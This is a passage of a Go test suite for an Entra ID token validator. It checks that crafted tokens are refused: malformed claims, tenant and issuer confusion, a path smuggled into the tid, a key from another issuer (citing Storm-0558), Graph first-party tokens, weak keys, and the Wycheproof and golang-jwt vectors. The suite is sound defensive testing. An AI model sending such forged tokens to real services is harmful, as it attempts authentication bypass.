		{"exp as string", fmt.Sprint(time.Now().Add(time.Hour).Unix()), entra.ErrTokenMalformed},
		{"exp as bool", true, entra.ErrTokenMalformed},
		{"exp as array", []int64{time.Now().Add(time.Hour).Unix()}, entra.ErrTokenMalformed},
		{"exp as object", map[string]any{"$numberLong": "9999999999"}, entra.ErrTokenMalformed},
		{"exp null", json.RawMessage("null"), entra.ErrTokenMalformed},
	} {
		add(c.name, nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"exp": c.v}}), c.want)
	}
	add("nbf 1e300", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"nbf": json.RawMessage("1e300")}}), entra.ErrTokenMalformed)
	add("nbf as string", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"nbf": "0"}}), entra.ErrTokenMalformed)
	add("iat beyond float64", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"iat": json.RawMessage("1e400")}}), entra.ErrTokenMalformed)
	add("aud as object", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"aud": map[string]any{srv.ClientID: true}}}), entra.ErrTokenMalformed)
	add("aud as number", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"aud": 1}}), entra.ErrTokenMalformed)
	add("aud array with a number", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"aud": []any{srv.ClientID, 1}}}), entra.ErrTokenMalformed)
	add("aud array nested", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"aud": []any{[]string{srv.ClientID}}}}), entra.ErrTokenMalformed)
	add("aud empty array", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"aud": []string{}}}), entra.ErrAudienceInvalid)
	add("aud null", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"aud": json.RawMessage("null")}}), entra.ErrTokenMalformed)
	// A GUID audience matches in any case (GUIDs are case-insensitive); an
	// App ID URI must be exact.
	add("App ID URI aud differs in case", vURI, srv.Mint(entratest.Token{Scopes: []string{"a"}, Audience: "https://api.contoso.com/Orders"}), entra.ErrAudienceInvalid)
	add("aud with a trailing space", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Audience: srv.ClientID + " "}), entra.ErrAudienceInvalid)

	// Tenants and issuers.
	add("multi-tenant: iss of tenant A, tid of tenant B", vOrg, srv.Mint(entratest.Token{TenantID: tenantA, Scopes: []string{"a"}, Claims: map[string]any{"tid": tenantB}}), entra.ErrIssuerInvalid)
	add("multi-tenant v1: iss of tenant A, tid of tenant B", vOrg, srv.Mint(entratest.Token{Version: "1.0", TenantID: tenantA, Scopes: []string{"a"}, Claims: map[string]any{"tid": tenantB}}), entra.ErrIssuerInvalid)
	add("multi-tenant: iss of tenant A, no tid", vOrg, srv.Mint(entratest.Token{TenantID: tenantA, Scopes: []string{"a"}, Claims: map[string]any{"tid": nil}}), entra.ErrIssuerInvalid)
	add("multi-tenant: empty tenant in the issuer template, no tid", vOrg, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"tid": nil, "iss": srv.URL + "//v2.0"}}), entra.ErrIssuerInvalid)
	add("multi-tenant v1: empty tenant in the issuer template, no tid", vOrg, srv.Mint(entratest.Token{Version: "1.0", Scopes: []string{"a"}, Claims: map[string]any{"tid": nil, "iss": "https://sts.windows.net//"}}), entra.ErrIssuerInvalid)
	add("multi-tenant v1: empty tenant in the issuer template, empty tid", vOrg, srv.Mint(entratest.Token{Version: "1.0", Scopes: []string{"a"}, Claims: map[string]any{"tid": "", "iss": "https://sts.windows.net//"}}), entra.ErrIssuerInvalid)
	add("multi-tenant: tid not a GUID, issuer built with it", vOrg, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"tid": "evil", "iss": srv.URL + "/evil/v2.0"}}), entra.ErrTenantNotAllowed)
	add("multi-tenant: tid with a path, issuer built with it", vOrg, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"tid": tenantA + "/x", "iss": srv.URL + "/" + tenantA + "/x/v2.0"}}), entra.ErrTenantNotAllowed)
	add("multi-tenant: issuer of tenant A in upper case", vOrg, srv.Mint(entratest.Token{TenantID: tenantA, Scopes: []string{"a"}, Claims: map[string]any{"iss": srv.URL + "/" + strings.ToUpper(tenantA) + "/v2.0"}}), entra.ErrIssuerInvalid)
	add("multi-tenant: tenant not allowed", vOrgAllowed, srv.Mint(entratest.Token{TenantID: tenantB, Scopes: []string{"a"}}), entra.ErrTenantNotAllowed)
	add("single tenant: token of another tenant", nil, srv.Mint(entratest.Token{TenantID: tenantA, Scopes: []string{"a"}}), entra.ErrIssuerInvalid)
	add("single tenant: v1 token of another tenant", nil, srv.Mint(entratest.Token{Version: "1.0", TenantID: tenantA, Scopes: []string{"a"}}), entra.ErrIssuerInvalid)
	add("single tenant: our issuer, another tid", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"tid": tenantA}}), entra.ErrTenantNotAllowed)
	add("single tenant: templated issuer", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"iss": srv.URL + "/{tenantid}/v2.0"}}), entra.ErrIssuerInvalid)
	add("single tenant: issuer of another authority", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Claims: map[string]any{"iss": other.Issuer("2.0", srv.TenantID)}}), entra.ErrIssuerInvalid)

	// A key vouches only for its own issuer (the lesson of Storm-0558, where
	// a consumer-account key signed tokens for enterprise tenants), for
	// v1.0 tokens too, whose issuer (sts.windows.net) a key set never names:
	// the tenant of the key's issuer must be the token's tid.
	add("personal-account key signs a v2 token of tenant A", vMT, srv.Mint(entratest.Token{KeyID: second, TenantID: tenantA, Scopes: []string{"a"}}), entra.ErrIssuerInvalid)
	add("personal-account key signs a v1 token of tenant A", vMT, srv.Mint(entratest.Token{KeyID: second, Version: "1.0", TenantID: tenantA, Scopes: []string{"a"}}), entra.ErrIssuerInvalid)
	add("single tenant: key of another tenant signs a v2 token", vST, srv.Mint(entratest.Token{Scopes: []string{"a"}}), entra.ErrIssuerInvalid)
	add("single tenant: key of another tenant signs a v1 token", vST, srv.Mint(entratest.Token{Version: "1.0", Scopes: []string{"a"}}), entra.ErrIssuerInvalid)

	// First-party tokens.
	add("Microsoft Graph token (aud Graph, header nonce)", nil, srv.Mint(entratest.Token{Audience: graphAppID, Scopes: []string{"User.Read"}, Header: map[string]any{"nonce": "AQABAAAAAAD"}}), entra.ErrFirstPartyToken)
	add("header nonce on a token for this API", nil, srv.Mint(entratest.Token{Scopes: []string{"a"}, Header: map[string]any{"nonce": "x"}}), entra.ErrFirstPartyToken)
	add("Microsoft Graph audience without nonce", nil, srv.Mint(entratest.Token{Audience: graphAppID, Scopes: []string{"User.Read"}}), entra.ErrAudienceInvalid)
	add("Microsoft Graph URL audience", nil, srv.Mint(entratest.Token{Audience: "https://graph.microsoft.com", Scopes: []string{"User.Read"}}), entra.ErrAudienceInvalid)

	// Weak and unexpected keys.
	add("RS256 by a 1024-bit key published in the key set", vKA, ka.token(t, "RS256", small, "rsa-1024", ka.claims()), entra.ErrUnknownKey)
	add("RS256 by a 1024-bit key under the kid of a good key", vKA, ka.token(t, "RS256", small, "rsa-2048", ka.claims()), entra.ErrSignatureInvalid)

	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			v := c.v
			if v == nil {
				v = vDef
			}
			checkRefused(t, v, c.tok, c.want)
		})
	}

	t.Run("wycheproof", func(t *testing.T) { runWycheproofJWS(t) })
	t.Run("golang-jwt", func(t *testing.T) { runGolangJWTVectors(t) })
}

// vectorOutcome predicts how a validator that accepts algs and holds keys
// refuses a JOSE test vector, following Validate's order of checks: the
// sentinel of a refusal before the signature check, or reaches == true
// when the token gets as far as its signature.
func vectorOutcome(tok string, algs []string, keys []entra.Key) (want error, reaches bool) {
	if tok == "" {
		return entra.ErrTokenMissing, false
	}
	for i := 0; i < len(tok); i++ {
		c := tok[i]
		if !('A' <= c && c <= 'Z' || 'a' <= c && c <= 'z' || '0' <= c && c <= '9' || c == '-' || c == '_' || c == '.') {
			return entra.ErrTokenMalformed, false
		}
	}
	parts := strings.Split(tok, ".")
	switch {
	case len(parts) == 5:
		return entra.ErrTokenUnsupported, false
	case len(parts) != 3, parts[0] == "", parts[1] == "":
		return entra.ErrTokenMalformed, false
	}
	hb, err := base64.RawURLEncoding.Strict().DecodeString(parts[0])
	if err != nil {
		return entra.ErrTokenMalformed, false
	}
	// All three segments are decoded before the header is read.
	for _, p := range parts[1:] {
		if _, err := base64.RawURLEncoding.Strict().DecodeString(p); err != nil {
			return entra.ErrTokenMalformed, false
		}
	}
	var h map[string]any
	if err := json.Unmarshal(hb, &h); err != nil {
		return entra.ErrTokenMalformed, false
	}
	for _, name := range []string{"enc", "zip", "epk"} {
		if _, ok := h[name]; ok {
			return entra.ErrTokenUnsupported, false
		}
	}
	alg, ok := h["alg"].(string)
	if _, present := h["alg"]; present && !ok {
		return entra.ErrTokenMalformed, false
	}
	if !slices.Contains(algs, alg) {
		return entra.ErrAlgorithmNotAllowed, false
	}
	for _, name := range []string{"jku", "jwk", "x5u", "x5c", "crit", "cty"} {
		if _, ok := h[name]; ok {
			return entra.ErrTokenUnsupported, false
		}
	}
	if typ, ok := h["typ"].(string); ok && !strings.EqualFold(typ, "JWT") && !strings.EqualFold(typ, "at+jwt") && !strings.EqualFold(typ, "application/at+jwt") {
		return entra.ErrTokenUnsupported, false
	}
	if _, ok := h["nonce"]; ok {
		return entra.ErrFirstPartyToken, false
	}
	kid, _ := h["kid"].(string)
	i := slices.IndexFunc(keys, func(k entra.Key) bool { return k.ID == kid })
	if kid == "" || i < 0 {
		return entra.ErrUnknownKey, false
	}
	k := keys[i]
	fits := false
	switch pk := k.PublicKey.(type) {
	case *rsa.PublicKey:
		fits = strings.HasPrefix(alg, "RS") || strings.HasPrefix(alg, "PS")
	case *ecdsa.PublicKey:
		fits = strings.HasPrefix(alg, "ES") && fmt.Sprint(pk.Curve.Params().BitSize) == map[string]string{"256": "256", "384": "384", "512": "521"}[alg[2:]]
	}
	if k.Algorithm != "" {
		fits = fits && k.Algorithm == alg
	}
	if !fits {
		return entra.ErrAlgorithmNotAllowed, false
	}
	return nil, true
}

// checkVector validates a JOSE test vector (whose payload is not a set of
// Entra claims) and checks the verdict: never accepted; a vector refused
// before its signature with the predicted sentinel; an invalid signature
// with ErrSignatureInvalid; a valid signature gets past the signature check and
// is refused for its claims.
func checkVector(t *testing.T, v *entra.Validator, algs []string, tok string, valid bool) {
	t.Helper()
	c, err := v.Validate(ctxT(t), tok)
	if err == nil || c != nil {
		t.Fatalf("a JOSE test vector was accepted (valid=%v)", valid)
	}
	want, reaches := vectorOutcome(tok, algs, v.Keys())
	switch {
	case !reaches:
		if !errors.Is(err, want) {
			t.Fatalf("got %v (%v), want %v", entra.CodeOf(err), err, want.(*entra.Error).Code)
		}
	case valid:
		if !errors.Is(err, entra.ErrTokenMalformed) && !errors.Is(err, entra.ErrClaimMissing) {
			t.Fatalf("valid signature: got %v (%v), want a refusal of its claims", entra.CodeOf(err), err)
		}
	default:
		if !errors.Is(err, entra.ErrSignatureInvalid) {
			t.Fatalf("invalid signature: got %v (%v), want %v", entra.CodeOf(err), err, entra.CodeSignatureInvalid)
		}
	}
}

// joseVectorsDir is the JOSE part of the shared vectors, or skips.
func joseVectorsDir(t *testing.T) string {
	t.Helper()
	return filepath.Join(vectorsDir(t), "jose-standard")
}

// runWycheproofJWS runs Wycheproof's JSON Web Signature vectors: each group
// whose public key is RSA or EC is published (with a filler key, so that a
// key the validator drops still leaves a usable key set) by an authority of
// its own, and every one of its vectors is validated.
func runWycheproofJWS(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join(joseVectorsDir(t), "wycheproof", "json_web_signature_test.json"))
	if err != nil {
		t.Skipf("Wycheproof vectors: %v", err)
	}
	var file struct {
		TestGroups []struct {
			Comment string         `json:"comment"`
			Public  map[string]any `json:"public"`
			Tests   []struct {
				TcID    json.Number `json:"tcId"`
				Comment string      `json:"comment"`
				JWS     any         `json:"jws"`
				Result  string      `json:"result"`
			} `json:"tests"`
		} `json:"testGroups"`
	}
	if err := json.Unmarshal(raw, &file); err != nil {
		t.Fatal(err)
	}
	filler := mustRSAKey(t, 2048)
	var hmacV *entra.Validator // for the groups without a public key
	ran := 0
	for gi, g := range file.TestGroups {
		var v *entra.Validator
		if kty, _ := g.Public["kty"].(string); kty == "RSA" || kty == "EC" {
			ka := newKeyAuthority(t)
			ka.setKeys(g.Public, rsaJWK("filler", &filler.PublicKey))
			cfg := ka.config()
			cfg.Algorithms = allAlgorithms
			v = newValidator(t, cfg)
			if err := v.Ready(ctxT(t)); err != nil {
				t.Fatalf("group %d: %v", gi, err)
			}
		} else {
			// HMAC groups: no public key; every vector must be refused.
			if hmacV == nil {
				hmacV = validatorFor(t, rsaJWK("filler", &filler.PublicKey))
			}
			v = hmacV
		}
		for _, tc := range g.Tests {
			tok, ok := tc.JWS.(string)
			if !ok {
				// JSON serialization: this API takes compact tokens only.
				b, _ := json.Marshal(tc.JWS)
				tok = string(b)
			}
			t.Run(fmt.Sprintf("tc%s-%s-%s", tc.TcID, g.Comment, tc.Comment), func(t *testing.T) {
				checkVector(t, v, allAlgorithms, tok, tc.Result == "valid")
			})
			ran++
		}
	}
	if ran < 300 {
		t.Fatalf("ran %d Wycheproof vectors, want at least 300", ran)
	}
}

// validatorFor returns a ready validator, accepting every algorithm, of a
// fresh keyAuthority that publishes keys.
func validatorFor(t *testing.T, keys ...map[string]any) *entra.Validator {
	t.Helper()
	ka := newKeyAuthority(t)
	ka.setKeys(keys...)
	cfg := ka.config()
	cfg.Algorithms = allAlgorithms
	v := newValidator(t, cfg)
	if err := v.Ready(ctxT(t)); err != nil {
		t.Fatal(err)
	}
	return v
}

// runGolangJWTVectors runs golang-jwt's static tokens (none handling, RSA
// and parser cases) against an authority that publishes golang-jwt's
// sample key. Their headers carry no kid, so none can be accepted.
func runGolangJWTVectors(t *testing.T) {
	dir := filepath.Join(joseVectorsDir(t), "golang-jwt")
	pemBytes, err := os.ReadFile(filepath.Join(dir, "sample_key.pub"))
	if err != nil {
		t.Skipf("golang-jwt vectors: %v", err)
	}
	block, _ := pem.Decode(pemBytes)
	if block == nil {
		t.Fatal("sample_key.pub is not PEM")
	}
	pk, err := x509.ParsePKIXPublicKey(block.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	v := validatorFor(t, rsaJWK("sample", pk.(*rsa.PublicKey)))
	ran := 0
	for _, file := range []string{"none_test_cases.json", "rsa_test_cases.json", "parser_test_cases.json"} {
		raw, err := os.ReadFile(filepath.Join(dir, file))
		if err != nil {
			t.Fatal(err)
		}
		var cases []struct {
			Name  string `json:"name"`
			Token string `json:"tokenString"`
		}
		if err := json.Unmarshal(raw, &cases); err != nil {
			t.Fatal(err)
		}
		for _, c := range cases {
			if c.Token == "" {
				continue // generated at run time by golang-jwt's own tests
			}
			t.Run(strings.TrimSuffix(file, "_test_cases.json")+"/"+c.Name, func(t *testing.T) {
				// Valid or not for golang-jwt, no vector names a key: refused
				// before the signature, with the predicted sentinel.
				checkVector(t, v, allAlgorithms, c.Token, false)
			})
			ran++
		}
	}
	if ran < 20 {
		t.Fatalf("ran %d golang-jwt vectors, want at least 20", ran)
	}
}
